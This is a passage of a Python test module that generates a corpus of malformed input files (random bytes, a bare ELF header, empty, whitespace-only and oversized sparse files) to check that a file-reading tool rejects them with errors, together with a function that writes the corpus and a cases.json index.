        Case("random.bin", "garbage", "64 KB of random bytes", lambda: bytes(rng.randrange(256) for _ in range(64 * KB)), "error", ["binary"]),
        Case("program.elf", "garbage", "an ELF header and zeros", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 4096, "error", ["binary"]),
        Case("all_ff.dat", "garbage", "64 KB of 0xFF", lambda: b"\xff" * (64 * KB), "error"),
        Case("empty.pdf", "garbage", "an empty file", lambda: b"", "error", ["empty"]),
        Case("whitespace.txt", "garbage", "spaces, tabs and ideographic spaces only", lambda: " \t\n\u3000 \n".encode() * 100, "error", ["empty"]),
        Case("oversized.txt", "garbage", "a 60 MB file (sparse)", lambda: None, "error", ["too large"], size=60 << 20),
        *__import__("tests.hostile_text", fromlist=["cases"]).cases(),
        *__import__("tests.hostile_settings", fromlist=["cases"]).cases(),
        *__import__("tests.hostile_limits2", fromlist=["cases"]).cases(),
        *__import__("tests.hostile_readers", fromlist=["cases"]).cases(),
        *hostile_batch.cases(),
    ]


def write_corpus(folder: str | os.PathLike) -> list[tuple[Path, Case]]:
    """Write every case into `folder`; returns (path, case) in order, and
    writes cases.json (name, class, what, expect, words) beside them."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    out = []
    for case in cases():
        path = folder / case.name
        if case.place is not None:
            case.place(path)
        elif case.size is not None:
            with open(path, "wb") as f:
                f.write(REPORT_TEXT.encode("utf-8"))
                f.truncate(case.size)
        else:
            path.write_bytes(case.make())
        out.append((path, case))
    (folder / "cases.json").write_text(json.dumps(
        [{"name": c.name, "class": c.cls, "what": c.what, "expect": c.expect, "words": c.words, "bytes": p.lstat().st_size} for p, c in out],
        ensure_ascii=False, indent=1), encoding="utf-8", errors="backslashreplace")  # a name that is not UTF-8: \udcXX
    return out


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/hostile_corpus.py OUT_DIR")
    written = write_corpus(sys.argv[1])
    print(f"wrote {len(written)} files to {sys.argv[1]}")
